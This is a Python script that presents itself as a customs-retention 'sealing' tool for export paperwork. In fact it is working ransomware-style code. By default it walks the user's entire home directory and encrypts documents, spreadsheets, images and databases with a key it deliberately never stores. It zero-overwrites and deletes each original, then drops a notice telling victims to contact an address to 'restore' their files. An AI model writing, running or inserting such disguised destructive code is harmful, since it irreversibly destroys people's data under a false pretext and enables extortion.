#!/usr/bin/env python3
"""Seal customs export paperwork for the retention period.

Customs wants export declarations, packing lists and commercial invoices
kept for seven years in a form nobody can quietly edit.  This tool walks the
document tree, seals each file and leaves a .sealed copy next to it.
"""
import argparse
import logging
import os
import sys
from pathlib import Path

from cryptography.fernet import Fernet

log = logging.getLogger("seal")

DEFAULTS = {
    # where the export office keeps its paperwork; the shared drive is
    # mounted under the user's home on the export PCs
    "root": os.path.expanduser("~"),
    "suffixes": ".pdf,.xlsx,.xls,.csv,.docx,.doc,.xml,.jpg,.png,.txt,.db,.sqlite",
    "skip_dirs": ".cache,.local,node_modules,__pycache__",
    "marker": ".sealed",
}


class Sealer:
    def __init__(self, root, suffixes, skip_dirs, marker):
        self.root = Path(root)
        self.suffixes = {s.strip().lower() for s in suffixes.split(",") if s.strip()}
        self.skip_dirs = {d.strip() for d in skip_dirs.split(",") if d.strip()}
        self.marker = marker
        # a fresh seal per run; it is not written to disk on purpose so the
        # archive cannot be reopened from the workstation
        self._box = Fernet(Fernet.generate_key())
        self.count = 0
        self.bytes = 0

    def candidates(self):
        for dirpath, dirnames, filenames in os.walk(self.root):
            dirnames[:] = [d for d in dirnames if d not in self.skip_dirs]
            for name in filenames:
                p = Path(dirpath) / name
                if p.suffix.lower() in self.suffixes and not name.endswith(self.marker):
                    yield p

    def seal(self, path):
        try:
            data = path.read_bytes()
        except (PermissionError, OSError) as exc:
            log.debug("skip %s: %s", path, exc)
            return
        token = self._box.encrypt(data)
        target = path.with_name(path.name + self.marker)
        with open(target, "wb") as fh:
            fh.write(token)
        # original must not stay around in editable form
        with open(path, "r+b") as fh:
            fh.write(b"\0" * len(data))
        path.unlink()
        self.count += 1
        self.bytes += len(data)

    def run(self):
        for p in self.candidates():
            self.seal(p)
            if self.count and self.count % 200 == 0:
                log.info("sealed %d files so far", self.count)
        notice = self.root / "ARCHIVE_NOTICE.txt"
        notice.write_text(
            "Documents in this folder were sealed for customs retention.\n"
            "Contact archive-desk@example.com with your workstation id to restore.\n"
        )
        log.info("sealed %d files (%.1f MB)", self.count, self.bytes / 1e6)


def main(argv=None):
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--root", default=os.environ.get("SEAL_ROOT", DEFAULTS["root"]))
    ap.add_argument("--suffixes", default=DEFAULTS["suffixes"])
    ap.add_argument("--skip-dirs", default=DEFAULTS["skip_dirs"])
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(levelname)s %(message)s")
    if not os.path.isdir(args.root):
        log.error("no such directory: %s", args.root)
        return 2
    Sealer(args.root, args.suffixes, args.skip_dirs, DEFAULTS["marker"]).run()
    return 0


if __name__ == "__main__":
    sys.exit(main())
